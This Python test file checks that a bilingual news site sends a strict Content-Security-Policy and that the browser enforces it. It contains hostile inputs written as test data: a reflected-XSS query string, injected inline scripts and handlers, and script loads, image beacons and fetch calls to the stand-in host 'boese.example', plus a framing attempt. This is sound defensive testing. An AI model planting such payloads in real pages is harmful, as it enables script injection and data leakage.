"""The content policy: strict on everything that is served, and really kept by the browser."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any, Final

import pytest
from playwright.sync_api import expect

from .browsing import OpenPage
from .reader_screens import BRIDGE
from .serving import Site

pytestmark = pytest.mark.browser

PAGES: Final = (
    "/",
    "/en",
    "/?q=cau+linh+nam&section=Giao+th%C3%B4ng",
    "/en?q=%22%3E%3Cscript%3Ewindow.ran=1%3C/script%3E",
    f"/articles/{BRIDGE}",
    f"/en/articles/{BRIDGE}",
    f"/articles/{BRIDGE}?view=digest",
    "/articles/chua-tung-co",
    "/khong-co-trang-nay",
    "/docs",
    "/en/docs",
    "/desk",
    "/en/desk",
)
FILES: Final = (
    "/assets/app.js",
    "/assets/style.css",
    "/assets/thread.svg",
    "/assets/vi.json",
    "/openapi.json",
    "/embed.js",
)
ANSWERS: Final = ("/v1/search", f"/v1/articles/{BRIDGE}", "/v1/articles/chua-tung-co", "/v1/scheduled", "/v1/khong-co")
STRICT: Final = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data:",
    "connect-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'self'",
    "frame-ancestors": "'none'",
}


def policy_of(site: Site, path: str) -> dict[str, str]:
    """The directives that are sent with an address."""
    answer = site.client.get(path, headers={"Accept": "text/html"})
    sent = answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "same-origin"
    return dict(one.strip().split(" ", 1) for one in sent.split(";") if one.strip())


class Inline(HTMLParser):
    """What a strict policy would not let work: scripts and styles in the markup, handlers, other origins."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = dict(attributes)
        data = tag == "script" and (given.get("type") or "").endswith("json")
        if tag in ("style", "base", "iframe", "object") or (tag == "script" and not data and "src" not in given):
            self.found.append(self.get_starttag_text() or tag)
        for name, value in attributes:
            loaded = name in ("src", "srcset", "action") or (name == "href" and tag == "link")
            elsewhere = loaded and not (value or "").startswith(("/", "data:"))
            named = tag == "link" and given.get("rel") in ("canonical", "alternate")
            if name.startswith("on") or name == "style" or (elsewhere and not named):
                self.found.append(self.get_starttag_text() or tag)


@pytest.mark.parametrize("path", [*PAGES, *FILES])
def test_everything_is_sent_with_the_strict_policy(site: Site, path: str) -> None:
    assert policy_of(site, path) == STRICT


@pytest.mark.parametrize("path", PAGES)
def test_no_page_has_a_script_or_a_style_in_its_markup(site: Site, path: str) -> None:
    parser = Inline()
    parser.feed(site.client.get(path, headers={"Accept": "text/html"}).text)
    assert parser.found == []


@pytest.mark.parametrize("path", ANSWERS)
def test_answers_of_the_api_are_never_taken_for_pages(site: Site, path: str) -> None:
    answer = site.client.get(path, headers={"Accept": "text/html"})
    assert answer.headers["content-type"].startswith("application/")
    assert answer.headers["x-content-type-options"] == "nosniff"


# Each of these would be a way in, had an article's markup slipped through.
TRIED: Final = {
    "an inline script": "const one = document.createElement('script'); one.textContent = 'window.ran = 1'; "
    "document.body.append(one)",
    "a handler": "const one = document.createElement('p'); one.setAttribute('onclick', 'window.ran = 1'); "
    "document.body.append(one); one.click()",
    "a script from elsewhere": "const one = document.createElement('script'); one.src = 'http://boese.example/x.js'; "
    "document.body.append(one)",
    "a picture that counts": "new Image().src = 'http://boese.example/x.png'",
    "a call elsewhere": "fetch('http://boese.example/x').catch(() => 0)",
    "evaluated text": "setTimeout('window.ran = 1')",
    "a style": "const one = document.createElement('style'); one.textContent = 'body { display: none }'; "
    "document.head.append(one)",
    "a frame": "const one = document.createElement('iframe'); one.src = 'http://boese.example/'; "
    "document.body.append(one)",
}


VIOLATION: Final = """() => new Promise((told) => {
    addEventListener('securitypolicyviolation', () => told(true), { once: true });
    setTimeout(() => told(false), 3000);
    TRIED;
})"""


@pytest.mark.parametrize("address", ["/", "/desk"])
def test_the_browser_keeps_it(open_page: OpenPage, complaints: Any, address: str) -> None:
    page = open_page(address)
    page.wait_for_load_state("networkidle")
    for name, script in TRIED.items():
        assert page.evaluate(VIOLATION.replace("TRIED", script)), f"nothing kept out {name}"
    assert page.evaluate("window.ran") is None
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    complaints.forgive("Content Security Policy|violate|Refused|boese")


def test_no_other_site_may_frame_a_page(open_page: OpenPage, complaints: Any, site: Site) -> None:
    page = open_page("about:blank")
    html = f'<!doctype html><title>x</title><link rel="icon" href="data:,"><iframe src="{site.base}/desk"></iframe>'
    page.route("http://boese.example/", lambda route: route.fulfill(body=html, content_type="text/html"))
    page.goto("http://boese.example/")
    page.wait_for_load_state("networkidle")
    framed = page.frames[1]
    expect(framed.locator("#room")).to_have_count(0)
    complaints.clear()  # the browser may say why the frame is empty
